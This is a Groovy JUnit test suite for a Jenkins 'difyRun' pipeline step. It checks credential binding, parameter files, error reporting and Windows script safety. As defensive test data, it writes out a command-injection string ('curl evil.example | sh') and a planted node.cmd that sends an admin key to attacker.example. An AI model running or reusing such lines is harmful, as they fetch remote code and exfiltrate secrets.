import static harness.PipelineHarness.*
import static org.junit.Assert.*

import groovy.json.JsonSlurper
import harness.PipelineError
import harness.PipelineHarness
import harness.Vars
import org.junit.Before
import org.junit.Test

class DifyRunTest extends EngineTest {
    DifyRunTest(String engine) {
        super(engine)
    }

    @Before
    void setUp() {
        h = Vars.harness()
    }

    private PipelineError expectError(Closure c) {
        try {
            c.call()
        } catch (PipelineError e) {
            return e
        }
        fail('expected error() to be called')
        return null
    }

    @Test
    void bindsExactlyTheCredentialsThatContextListsForTheStepAndEnvironment() {
        h.contextFor = { String step, String envName ->
            assertEquals('deploy', step)
            assertEquals('production', envName)
            defaultContext(step, envName)
        }
        h.call('difyRun', 'deploy', [env: 'production'])
        List bindings = h.named('withCredentials')[0].args[0]
        assertEquals([
            [$symbol: 'usernamePassword', credentialsId: 'dify-production', usernameVariable: 'DIFY_EMAIL', passwordVariable: 'DIFY_PASSWORD'],
            [$symbol: 'string', credentialsId: 'openai', variable: 'OPENAI_KEY'],
            [$symbol: 'file', credentialsId: 'ca-bundle', variable: 'DIFY_CA_FILE'],
        ], bindings)
        Map deploy = h.commands()[0]
        assertEquals('deploy', deploy.command)
        assertEquals(secretOf('dify-production', 'DIFY_PASSWORD'), deploy.env.DIFY_PASSWORD)
        assertEquals(secretOf('openai', 'OPENAI_KEY'), deploy.env.OPENAI_KEY)
        assertTrue('context itself runs without credentials', h.runs[0].env.keySet().every { it.startsWith('DIFY_CI_') })
    }

    @Test
    void aStepWithoutCredentialsBindsNothing() {
        h.call('difyRun', 'validate', [:])
        assertEquals([[]], h.named('withCredentials')*.args*.getAt(0))
        assertEquals('validate', h.runs[0].params.step)
    }

    @Test
    void everyScriptIsAConstantAndNoSecretOrUserValueReachesOne() {
        String hostile = 'bot"; curl evil.example | sh; echo $(id) `id` %PATH% \'x'
        h.call('difyRun', 'deploy', [env: 'production', app: hostile, approvedBy: 'mallory$(id)'])
        h.unix = false
        h.call('difyRun', 'smoke', [env: 'production', filter: hostile])
        List<Map> shells = h.calls.findAll { it.name in ['sh', 'bat'] }
        assertEquals('node check, then context + command twice', 5, shells.size())
        for (Map c : shells) {
            Map m = c.args[0]
            assertTrue("not a constant script: ${m.script}", m.script in CONSTANT_SCRIPTS)
            assertEquals(true, m.returnStatus)
            String label = m.label.toString()
            for (String secret : ['DIFY_PASSWORD', 'OPENAI_KEY'].collect { v -> h.runs[1].env[v] }) {
                assertFalse(label.contains(secret))
            }
            assertFalse(label.contains(hostile))
        }
        assertEquals(hostile, h.commands()[0].params.app)
        assertEquals(hostile, h.commands()[1].params.filter)
    }

    @Test
    void contextKeepsItsJsonOutOfTheBuildLogWhileCommandsPrintTheirs() {
        h.call('difyRun', 'plan', [env: 'staging'])
        assertEquals([NODE_CHECK, UNIX_CONTEXT, UNIX_RUN], h.named('sh').collect { it.args[0].script })
        assertEquals(['dify-ci: node --version', 'dify-ci context plan staging', 'dify-ci plan staging'], h.named('sh').collect { it.args[0].label })
    }

    @Test
    void parametersTravelInAJsonFileNamedByAnEnvironmentVariable() {
        Map params = [env: 'staging', app: 'support-bot', allowVersionUpgrade: true, tenants: ['a', 'b'], approvedBy: 'alice']
        h.call('difyRun', 'deploy', params)
        Map run = h.commands()[0]
        assertEquals(params, run.params)
        assertEquals('/ws@tmp/dify-ci/params-3.json', run.env.DIFY_CI_PARAMS_FILE)
        assertEquals('deploy', run.env.DIFY_CI_COMMAND)
        assertEquals('.dify-ci/results/deploy-staging-c3.json', run.env.DIFY_CI_RESULT_FILE)
        assertFalse('no parameter value in any environment variable', run.env.values().any { it.contains('support-bot') || it.contains('alice') })
        Map ctxRun = h.runs[0]
        assertEquals([step: 'deploy', env: 'staging', config: null], ctxRun.params)
        assertNotEquals(ctxRun.env.DIFY_CI_PARAMS_FILE, run.env.DIFY_CI_PARAMS_FILE)
    }

    @Test
    void theRunnersOwnMessageAndCategorySurfaceInError() {
        h.runner = { Map run -> [exitCode: 2, result: failResult(run.command, "dify-ci.yml:12:5: unknown key 'aprroval' at environments.production", 'config', 2)] }
        PipelineError e = expectError { h.call('difyRun', 'deploy', [env: 'production']) }
        assertEquals("dify-ci deploy: dify-ci.yml:12:5: unknown key 'aprroval' at environments.production [config]", e.message)
    }

    @Test
    void aFailureWithoutErrorObjectReportsTheSummary() {
        h.runner = { Map run -> [exitCode: 1, result: okResult(run.command, [status: 'failed', summary: '2 of 9 cases failed'])] }
        PipelineError e = expectError { h.call('difyRun', 'smoke', [env: 'staging']) }
        assertEquals('dify-ci smoke: 2 of 9 cases failed [operation]', e.message)
    }

    @Test
    void aRunnerThatWritesNoResultIsAFailureNotAStaleSuccess() {
        h.files['/ws/.dify-ci/results/deploy-staging.json'] = groovy.json.JsonOutput.toJson(okResult('deploy'))
        h.runner = { Map run -> [exitCode: 137, result: null] }
        PipelineError e = expectError { h.call('difyRun', 'deploy', [env: 'staging']) }
        assertEquals('dify-ci deploy: the runner exited with 137 and wrote no result file (see the log above)', e.message)
    }

    @Test
    void authFailuresKeepTheirCategory() {
        h.runner = { Map run -> [exitCode: 4, result: failResult(run.command, 'Dify refused the login for ci@example.com (401)', 'auth', 4)] }
        PipelineError e = expectError { h.call('difyRun', 'status', [env: 'staging']) }
        assertTrue(e.message.endsWith('[auth]'))
    }

    @Test
    void okExitCodesAndPropagateFalseHandBackTheResult() {
        h.runner = { Map run -> [exitCode: 3, result: okResult(run.command, [status: 'changes', data: [changes: 2]])] }
        Map r = h.call('difyRun', 'plan', [env: 'staging'], [okExitCodes: [0, 3]])
        assertEquals(3, r.exitCode)
        assertEquals([changes: 2], r.data)
        h.runner = { Map run -> [exitCode: 1, result: okResult(run.command, [status: 'failed'])] }
        Map failed = h.call('difyRun', 'smoke', [env: 'staging'], [propagate: false])
        assertEquals(1, failed.exitCode)
        assertEquals([], h.named('error'))
    }

    @Test
    void windowsAgentsUseBatWithTheSameContract() {
        h.unix = false
        h.workspace = 'C:/ws'
        h.call('difyRun', 'backup', [env: 'production', all: true])
        assertEquals([], h.named('sh'))
        List scripts = h.named('bat').collect { it.args[0].script }
        assertEquals([WIN_NODE_CHECK, WIN_CONTEXT, WIN_RUN], scripts)
        assertEquals([env: 'production', all: true], h.commands()[0].params)
        assertEquals('bat', h.commands()[0].shell)
        assertEquals('the result lands in the workspace', ['C:/ws/.dify-ci/results/backup-production-c3.json'], h.files.keySet().findAll { it.contains('/results/') }.toList())
    }

    @Test
    void windowsNeverRunsAProgramFromTheWorkspace() {
        // cmd.exe looks in the current directory before PATH: a PR's node.cmd there would run inside withCredentials.
        h.unix = false
        h.workspace = 'C:/ws'
        h.files['C:/ws/node.cmd'] = '@curl -d %DIFY_ADMIN_KEY% http://attacker.example'
        h.call('difyRun', 'deploy', [env: 'production'])
        for (Map bat : h.named('bat')) {
            String script = bat.args[0].script
            assertTrue('node is found on PATH only and called by its absolute path', script.startsWith('@for %%i in (node.exe) do @if "%%~$PATH:i"=="" ('))
            String commands = script.replaceAll(/\(echo [^)]*\)/, '').replace('in (node.exe)', '')
            assertFalse("no bare node command: ${script}", (commands =~ /(^|[\s@&(])node(\.exe)?(\s|$)/).find())
        }
        for (Map run : h.runs) {
            assertEquals('run from the temp dir, not the workspace', 'C:/ws@tmp/dify-ci', run.cwd)
            assertEquals('1', run.env.NoDefaultCurrentDirectoryInExePath)
            assertEquals('the runner moves to the workspace itself', 'C:/ws', run.env.DIFY_CI_WORKSPACE)
        }
        assertTrue(h.runs.size() == 2)
    }

    @Test
    void theRunnerIsWrittenOncePerWorkspaceUnderTheTempDirWithItsDigestInTheName() {
        h.call('difyRun', 'validate', [:])
        h.call('difyRun', 'status', [env: 'staging'])
        List runnerWrites = h.named('writeFile').findAll { it.args[0].text == RUNNER_TEXT }
        assertEquals(1, runnerWrites.size())
        String part = runnerWrites[0].args[0].file
        String path = h.runs[0].runner
        assertTrue(path, path ==~ /\/ws@tmp\/dify-ci\/runner-\d+-m?\d+\.cjs/)
        assertEquals('written under its own name, then moved into place by node', "${path}.1.part".toString(), part)
        assertEquals(RUNNER_TEXT, h.files[path])
        assertFalse(h.files.containsKey(part))
        assertEquals(1, h.calls.count { it.name == 'sh' && it.args[0].script == NODE_CHECK })
        Map check = h.named('withEnv').find { it.args[0].contains("DIFY_CI_RUNNER_PART=${part}".toString()) }
        assertNotNull('the check renames the part file to the runner', check)
        assertTrue(h.runs.every { it.runner == path })
        h.workspace = '/other-ws'
        h.call('difyRun', 'validate', [:])
        assertEquals('a new workspace gets its own copy', 2, h.named('writeFile').count { it.args[0].text == RUNNER_TEXT })
    }

    @Test
    void anOldNodeFailsClearlyBeforeAnythingRuns() {
        h.nodeCheckStatus = 3
        PipelineError e = expectError { h.call('difyRun', 'validate', [:]) }
        assertTrue(e.message, e.message.startsWith('dify-ci needs Node.js >= 20 on the agent'))
        assertEquals([], h.runs)
        assertFalse('no runner at its final name', h.files.keySet().any { it.contains('runner-') && it.endsWith('.cjs') })
    }

    @Test
    void artifactsListedInTheResultAreArchivedRelativeToTheWorkspace() {
        h.runner = { Map run ->
            [exitCode: 0, result: okResult(run.command, [artifacts: [
                [path: '.dify-ci/reports/smoke-staging.xml', kind: 'junit'],
                [path: './.dify-ci/reports/smoke.html', kind: 'html'],
                [path: '.dify-ci\\reports\\win.md', kind: 'markdown'],
                [path: '/tmp/outside.json', kind: 'json'],
                [path: '../escape.json', kind: 'json'],
            ]])]
        }
        h.call('difyRun', 'smoke', [env: 'staging'])
        assertEquals([[artifacts: '.dify-ci/results/smoke-staging-c3.json,.dify-ci/reports/smoke-staging.xml,.dify-ci/reports/smoke.html,.dify-ci/reports/win.md', allowEmptyArchive: true]],
            h.named('archiveArtifacts')*.args*.getAt(0))
    }

    @Test
    void onlyTheResultFileIsArchivedWhenTheResultListsNoArtifacts() {
        h.call('difyRun', 'status', [env: 'staging'])
        assertEquals([[artifacts: '.dify-ci/results/status-staging-c3.json', allowEmptyArchive: true]], h.named('archiveArtifacts')*.args*.getAt(0))
    }

    @Test
    void aContextFailureStopsBeforeAnyCredentialIsBound() {
        h.contextRunner = { Map run -> [exitCode: 2, result: failResult('context', "dify-ci.yml:3:1: unknown environment 'prod'", 'config', 2)] }
        PipelineError e = expectError { h.call('difyRun', 'deploy', [env: 'prod']) }
        assertEquals("dify-ci context: dify-ci.yml:3:1: unknown environment 'prod' [config]", e.message)
        assertEquals([], h.named('withCredentials'))
        assertEquals([], h.commands())
    }

    @Test
    void resultFilesAreNamedPerCommandEnvironmentAndShard() {
        h.call('difyRun', 'deploy', [env: 'production', shard: '2/4'])
        h.call('difyRun', 'deploy', [env: 'production', shard: '2/4'])
        assertEquals('the call id keeps two calls apart', ['.dify-ci/results/deploy-production-2_4-c3.json', '.dify-ci/results/deploy-production-2_4-c5.json'],
            h.commands()*.env*.DIFY_CI_RESULT_FILE)
        assertEquals([command: 'deploy', status: 'success'], new JsonSlurper().parseText(h.files['/ws/.dify-ci/results/deploy-production-2_4-c3.json']).subMap(['command', 'status']))
    }

    @Test
    void callIdsAreUniqueWithinABuild() {
        h.call('difyRun', 'status', [env: 'staging'])
        h.call('difyRun', 'status', [env: 'staging'])
        List files = h.runs.collect { it.env.DIFY_CI_PARAMS_FILE }
        assertEquals(files.unique(false), files)
        assertEquals('1 went to the runner\'s part file', [2, 3, 4, 5].collect { "/ws@tmp/dify-ci/params-${it}.json".toString() }, files)
    }
}
